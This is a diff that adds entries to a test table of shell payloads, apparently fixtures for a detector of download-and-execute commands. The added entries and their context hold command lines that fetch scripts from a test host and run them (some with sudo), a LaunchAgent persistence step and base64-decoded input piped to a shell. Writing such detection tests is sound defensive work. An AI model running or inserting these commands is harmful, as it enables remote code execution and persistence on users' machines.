@@ -119,6 +119,9 @@ LINE_PAYLOADS = (
     ("download", True, "wget https://mirror.test/tool.sh -O tool.sh; chmod +x tool.sh"),
     ("cross-line", True, "curl https://mirror.test/first.sh > /tmp/first.sh\nsleep 2\nbash /tmp/first.sh"),
     ("cross-line", True, "curl https://mirror.test/safe.txt > /tmp/safe.txt\nwget https://mirror.test/second -O /tmp/second\nchmod +x /tmp/second\n/tmp/second"),
+    ("cross-line", True, "curl https://mirror.test/notes.txt -o notes.txt\nwget https://mirror.test/third.py -O third.py\npython3 third.py"),
+    ("cross-line", True, "curl https://mirror.test/a -o part.a; curl https://mirror.test/b -o part.b\n\n  sudo perl part.a"),
+    ("cross-line", False, "curl https://mirror.test/list -o list\npython3 listing.py"),
     ("cross-line", True, "tee ~/Library/LaunchAgents/sync.plist\nlaunchctl load ~/Library/LaunchAgents/sync.plist"),
     ("encoded", True, "cat job.b64 | base64 -D | zsh"),
     ("encoded", True, "base64 -d job.b64 > job && bash job"),
